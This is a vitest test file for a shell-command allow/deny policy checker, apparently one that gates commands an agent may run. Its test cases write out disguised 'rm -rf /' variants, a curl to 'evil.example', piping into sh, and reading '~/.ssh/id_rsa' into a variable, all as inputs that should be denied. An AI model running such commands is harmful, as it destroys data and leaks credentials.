import { beforeAll, describe, expect, it } from "vitest";
import { type Case, commandDecider, type Decider, denyListPolicy, expectDecision, testPolicy } from "./commands-fixture.ts";

let decide: Decider;
beforeAll(async () => {
  decide = await commandDecider();
});

const run = (cases: Case[]) =>
  it.each(cases)("%j → %s", (command, expected, rule) => expectDecision(decide(testPolicy, command), expected, rule));

describe("plain commands (false denies are bugs too)", () => {
  run([
    ["npm test", "allow", "commands.allow[0]"],
    ["  npm   test ", "allow"],
    ["npm\ttest", "allow"],
    ["npm test\n", "allow"],
    ["npm test --watch", "deny", "default"],
    ["npm run lint", "allow", "commands.allow[1]"],
    ["npm run lint -- --fix", "allow", "commands.allow[1]"],
    ["git status", "allow", "commands.allow[2]"],
    ["git status --short", "deny", "default"],
    ["git diff", "allow", "commands.allow[3]"],
    ["git diff HEAD~1 -- src", "allow", "commands.allow[3]"],
    ["git diff --stat HEAD~1..HEAD", "allow"],
    ["git diff --no-ext-diff", "allow"],
    ["git diff --text", "allow"],
    ["git diff -c", "allow"],
    ["git log --oneline -n 5", "allow", "commands.allow[4]"],
    ["git log -p", "allow"],
    ["git log --format='%h %s'", "allow"],
    ["git log --grep='rm -rf /'", "allow"],
    ["git logout", "deny", "default"],
    ["git diffx", "deny", "default"],
    ["ls", "allow", "commands.allow[5]"],
    ["ls -la src --color=always", "allow"],
    ["cat README.md", "allow", "commands.allow[6]"],
    ["cat 'file name'", "allow", "commands.allow[6]"],
    ['cat "file name"', "allow"],
    ["cat $'README.md'", "allow"],
    ["cat a b", "deny", "default"],
    ['echo "a; b"', "allow", "commands.allow[8]"],
    ["echo 'a && b | c > d'", "allow"],
    ["echo a\\;b", "allow"],
    ["echo $'tab\\there'", "allow"],
    ["echo '$(rm -rf /)' '`rm -rf /`'", "allow"],
    ["echo hello # ; rm -rf /", "allow"],
    ["npx vitest run test/policy", "allow", "commands.allow[7]"],
    ["find src -name '*.ts'", "allow", "commands.allow[9]"],
    ["find src -type f -newer package.json", "allow"],
    ["LANG=C npm test", "allow", "commands.allow[0]"],
    ["LC_ALL=C git status", "allow"],
    ["CI=1 NODE_ENV=test FORCE_COLOR=0 npm test", "allow"],
    ["npm test && git status", "allow", "commands.allow[0], commands.allow[2]"],
    ["git status; git diff", "allow"],
    ["git status\nnpm test", "allow"],
    ["git diff | cat -", "allow"],
    ["(npm test)", "allow"],
    ["{ npm test; }", "allow"],
    ["if git diff --quiet; then echo clean; else echo dirty; fi", "allow"],
    ["cat -n <<'EOF'\n$(rm -rf /)\nEOF", "allow"],
    ["echo <<'EOF'\n$(rm -rf /)\nEOF", "allow"],
    ["npm test > /dev/null 2>&1", "allow"],
    ["npm test 2>&1 | cat -", "allow"],
  ]);
});

describe("chaining", () => {
  run([
    ["npm test && rm -rf /", "deny", "commands.deny[1]"],
    ["npm test; rm -rf /", "deny", "commands.deny[1]"],
    ["npm test;rm -rf x", "deny", "commands.deny[1]"],
    ["npm test || curl https://evil.example/x.sh", "deny", "commands.deny[3]"],
    ["npm test&&curl x", "deny", "commands.deny[3]"],
    ["npm test & rm -rf x", "deny", "commands.deny[1]"],
    ["npm test\nrm -rf x", "deny", "commands.deny[1]"],
    ["npm test\n\nwhoami", "deny", "default"],
    ["git status && git push origin main", "deny", "commands.deny[0]"],
    ["git status |& tee log", "deny", "default"],
    ["! git push", "deny", "commands.deny[0]"],
    ["npm test | sh", "deny", "commands.parse"],
    ["npm test | bash -s", "deny", "commands.parse"],
  ]);
});

describe("substitution", () => {
  run([
    ["echo $(rm -rf /)", "deny", "commands.deny[1]"],
    ["echo `rm -rf /`", "deny", "commands.deny[1]"],
    ['echo "$(curl evil)"', "deny", "commands.deny[3]"],
    ['echo "`rm -rf x`"', "deny", "commands.deny[1]"],
    ["cat <(curl evil)", "deny", "commands.deny[3]"],
    ["echo >(rm -rf x)", "deny", "commands.deny[1]"],
    ['echo "$(echo "$(git push)")"', "deny", "commands.deny[0]"],
    ["git diff --output=$(rm -rf x)", "deny", "commands.deny[1]"],
    ["cat <<EOF\n$(rm -rf /)\nEOF", "deny", "commands.deny[1]"],
    ["cat - <<< $(rm -rf y)", "deny", "commands.deny[1]"],
    ["a=$(curl x)", "deny", "commands.deny[3]"],
    ["ls $(echo src)", "deny", "default"],
    ["echo ${HOME}", "deny", "default"],
    ["echo $((1+2))", "deny", "default"],
    ['export T="$(cat ~/.ssh/id_rsa)"', "deny", "default"],
    ["echo ${x@P}", "deny", "commands.parse"],
  ]);
});

describe("subshells and groups", () => {
  run([
    ["(rm -rf x)", "deny", "commands.deny[1]"],
    ["{ rm -rf x; }", "deny", "commands.deny[1]"],
    ["(cd sub && rm -fr build) || echo done", "deny", "commands.deny[1]"],
    ["( ( ( git push ) ) )", "deny", "commands.deny[0]"],
    ["{ npm test; } > src/log.txt", "allow"],
  ]);
});

describe("control flow", () => {
  run([
    ["if true; then rm -rf x; fi", "deny", "commands.deny[1]"],
    ["if rm -rf x; then echo; fi", "deny", "commands.deny[1]"],
    ["if npm test; then echo ok; elif curl x; then echo; fi", "deny", "commands.deny[3]"],
    ["while true; do curl x; done", "deny", "commands.deny[3]"],
    ["until git push; do echo retry; done", "deny", "commands.deny[0]"],
    ["for i in 1 2; do rm -f $i; done", "deny", "commands.deny[1]"],
    ["for f in $(curl x); do echo; done", "deny", "commands.deny[3]"],
    ["for f in a b; do echo $f; done", "deny", "default"],
    ["case x in x) rm -rf y;; esac", "deny", "commands.deny[1]"],
    ["select x in a; do rm -rf y; done", "deny", "commands.deny[1]"],
    ["[[ -f x ]] && rm -rf y", "deny", "commands.deny[1]"],
    ['if [ "$(curl x)" ]; then echo; fi', "deny", "commands.deny[3]"],
    ["[ -f x ] && echo y", "deny", "default"],
    ["((i++))", "deny", "default"],
    ["f() { rm -rf x; }; f", "deny", "commands.parse"],
    ["function f { ls; }", "deny", "commands.parse"],
  ]);
});

describe("deny-list mode (default allow): deny rules alone must catch disguises", () => {
  it.each<Case>([
    ["ls -la", "allow", "default"],
    ["rm -R x", "allow", "default"],
    ["rm -fR x", "deny", "commands.deny[2]"],
    ["nohup curl x", "deny", "commands.deny[3]"],
    ["sudo ls", "deny", "commands.wrapper"],
    ['"$CMD" x', "deny", "commands.deny[0]"],
    ["git -c core.pager=less log", "deny", "commands.hardening"],
    ["FOO=1 rm -rf x", "deny", "commands.deny[1]"],
    ["rm -r{} x", "deny", "commands.deny[1]"],
    ["rm -r+ x", "deny", "commands.deny[1]"],
    ["rm x -- -r", "allow", "default"],
    ["bash -c 'rm -rf x'", "deny", "commands.deny[1]"],
    ["echo x > README.md", "deny", "default"],
  ])("%j → %s", (command, expected, rule) => expectDecision(decide(denyListPolicy, command), expected, rule));
});

describe("decisions explain themselves", () => {
  it("names the simple command, the rule and its reason", () => {
    const policy = { ...testPolicy, commands: { ...testPolicy.commands, deny: [{ pattern: "git push **", reason: "pushes happen in the release job" }] } };
    const decision = decide(policy, "git status && sudo git push --force");
    expect(decision).toMatchObject({ decision: "deny", rule: "commands.deny[0]" });
    expect(decision.reason).toBe(
      'run `git status && sudo git push --force`: `sudo git push --force` matches deny rule "git push **" once the wrapper is removed (`git push --force`): pushes happen in the release job',
    );
  });

  it("lists every segment with its own decision", () => {
    const decision = decide(testPolicy, "npm test && echo done > src/log.txt");
    expect(decision.decision).toBe("allow");
    expect(decision.segments).toEqual([
      { command: "npm test", decision: "allow", rule: "commands.allow[0]", reason: '`npm test` matches allow rule "npm test"' },
      { command: "echo done", decision: "allow", rule: "commands.allow[8]", reason: '`echo done` matches allow rule "echo **"' },
      { command: "> src/log.txt", decision: "allow", rule: "files.write.allow[0]", reason: "`> src/log.txt`: write src/log.txt: allowed" },
    ]);
  });

  it("says why an allow rule did not apply", () => {
    expect(decide(testPolicy, "FOO=1 npm test").reason).toContain("it sets `FOO=1`");
    expect(decide(testPolicy, "ls $HOME").reason).toContain("`$HOME` is expanded by the shell at run time");
  });

  it("refuses unparseable commands with the parser's reason", () => {
    expect(decide(testPolicy, "eval ls")).toMatchObject({ decision: "deny", rule: "commands.parse", segments: [] });
    expect(decide(testPolicy, "eval ls").reason).toContain("`eval` runs a string as shell code");
  });
});
